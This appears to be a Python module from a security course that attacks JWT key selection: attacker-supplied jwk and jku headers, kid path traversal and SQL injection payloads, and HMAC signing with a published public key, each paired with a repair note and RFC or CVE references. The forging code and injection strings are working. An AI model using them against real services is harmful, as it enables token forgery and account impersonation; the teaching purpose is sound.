"""Attacks on the question which key verifies a token: the token answers it, or the answer is no secret."""

import tempfile
from collections.abc import Iterator
from pathlib import Path

import flask
import jwt
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt.algorithms import ECAlgorithm, RSAAlgorithm

from course.attacks.attempts import Outcome, attempt, broke_in, not_there
from course.attacks.target import Target, sign, unsigned
from course.attacks.tokens import try_each
from course.servers.background import BackgroundServer
from course.tokens.jws import HASHES

SECRET = "a key of the attacker with 32 bytes"
PUBLISHED = ("/.well-known/jwks.json", "/jwks.json", "/keys.json", "/public.pem", "/public-key")


def own_pairs() -> Iterator[tuple[str, rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey, dict]]:
    """An algorithm, a private key of the attacker's own, and its public half as a JWK."""
    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    yield "RS256", rsa_key, RSAAlgorithm.to_jwk(rsa_key.public_key(), as_dict=True)
    ec_key = ec.generate_private_key(ec.SECP256R1())
    yield "ES256", ec_key, ECAlgorithm.to_jwk(ec_key.public_key(), as_dict=True)


def named(target: Target, **names: object) -> dict:
    """The header of the attacker's token, with other names in it. The algorithm is left to who signs."""
    return {name: value for name, value in target.header.items() if name != "alg"} | names


def with_secret(target: Target, names: dict[str, str], secret: bytes) -> Outcome:
    """Call with tokens of the victim that are signed with one secret, and name the key in these ways."""
    claims = target.claims(target.victim)
    return try_each(
        target,
        {
            what: sign(unsigned(named(target, kid=kid) | {"alg": "HS256"}, claims), secret)
            for what, kid in names.items()
        },
    )


@attempt(
    "a public key in the token",
    story="The attacker signs a token with a private key, and puts the public half into its header.",
    repair="Take the key from your settings only, and never from a token.",
    source="RFC 8725 section 3.10, CVE-2018-0114",
    lesson="13",
)
def public_key_in_the_token(target: Target) -> Outcome:
    claims = target.claims(target.victim)
    return try_each(
        target,
        {
            f"{algorithm}, with the key in jwk": jwt.encode(
                claims, key, algorithm, headers=named(target, jwk=jwk)
            )
            for algorithm, key, jwk in own_pairs()
        },
    )


@attempt(
    "an address of keys in the token",
    story="The header of the token says where its key is: on a server of the attacker.",
    repair="Ask one address for keys, that of your settings. A token decides nothing, not even whom you call.",
    source="RFC 8725 section 3.10, ASVS 9.1.3",
    lesson="13",
)
def address_of_keys(target: Target) -> Outcome:
    claims = target.claims(target.victim)
    keys: list[dict] = []
    app = flask.Flask("attacker", static_folder=None)
    app.get("/keys.json")(lambda: {"keys": keys})
    with BackgroundServer(app) as own:
        tokens = {}
        for algorithm, key, jwk in own_pairs():
            names = named(target, kid=algorithm, jku=f"{own.url}/keys.json")
            keys.append(jwk | {"kid": algorithm, "alg": algorithm, "use": "sig"})
            tokens[f"{algorithm}, with an address in jku"] = jwt.encode(
                claims, key, algorithm, headers=names
            )
        outcome = try_each(target, tokens)
        if own.log and outcome.exchange:
            answer = target.call(list(tokens.values())[0])
            return broke_in("the API calls the address in the token", answer)
    return outcome


@attempt(
    "a file as a key",
    story="The attacker names a file whose bytes are known, and signs with those bytes.",
    repair="Look kid up among the names of your keys. Never join it to a path.",
    source="RFC 8725 section 3.10, CWE-22",
    lesson="13",
)
def file_as_a_key(target: Target) -> Outcome:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "key"
        path.write_text(SECRET)
        below = path.as_posix().lstrip("/")
        return with_secret(
            target,
            {
                "kid is a path": str(path),
                "kid leads upwards": "../" * 12 + below,
                "kid leads upwards in another spelling": "....//" * 12 + below,
                "kid is an address": path.as_uri(),
            },
            SECRET.encode(),
        )


@attempt(
    "a query as a key",
    story="The attacker writes a piece of SQL into kid, so that the database answers with a key of the attacker.",
    repair="Give kid to the database as a parameter, or look it up among the names of your keys.",
    source="RFC 8725 section 3.10, CWE-89",
    lesson="13",
)
def query_as_a_key(target: Target) -> Outcome:
    return with_secret(
        target,
        {
            f"kid ends a text with {quote} and goes on": f"x{quote} UNION SELECT '{SECRET}' -- "
            for quote in ("'", '"', "')", "")
        },
        SECRET.encode(),
    )


def public_keys(text: str) -> list[jwt.PyJWK]:
    """The keys of a set that are public halves, if the text can be read as a set of keys."""
    try:
        keys = jwt.PyJWKSet.from_json(text).keys
    except (jwt.PyJWTError, ValueError, AttributeError):
        return []
    return [key for key in keys if key.key_type in ("EC", "RSA", "OKP")]


def published_secrets(target: Target) -> Iterator[tuple[str, dict, bytes]]:
    """Everything public that a careless verifier may take for a secret: what it is, names for the header, and its bytes.

    Raises:
        NoVerdict: the API publishes no key.
    """
    answers = [target.send("GET", path) for path in PUBLISHED]
    found = [answer for answer in answers if answer.ok and b'"kty"' in answer.content]
    pems = [answer for answer in answers if answer.ok and b"PUBLIC KEY" in answer.content]
    if not found and not pems:
        raise not_there("no public key is known")
    for answer in [*found, *pems]:
        yield "the file as it is", {}, answer.content
        yield "the file without its last line break", {}, answer.content.strip()
    for answer in found:
        for jwk in public_keys(answer.text):
            names = {"kid": jwk.key_id} if jwk.key_id else {}
            pem = jwk.key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
            yield f"the key {jwk.key_id} as PEM", names, pem
            yield f"the key {jwk.key_id} as PEM without its last line break", names, pem.strip()


@attempt(
    "the public key as a secret",
    story="Everybody may have the public key. The attacker signs with it, as if it were a shared secret.",
    repair="One key, one algorithm: never let the header of a token choose how a key is used.",
    source="RFC 8725 section 3.1, CVE-2026-22817",
    lesson="14",
)
def public_key_as_a_secret(target: Target) -> Outcome:
    claims = target.claims(target.victim)
    tokens = {
        f"{algorithm} with {what}": sign(
            unsigned(named(target, **names) | {"alg": algorithm}, claims), secret, algorithm
        )
        for what, names, secret in published_secrets(target)
        for algorithm in HASHES
    }
    return try_each(target, tokens)
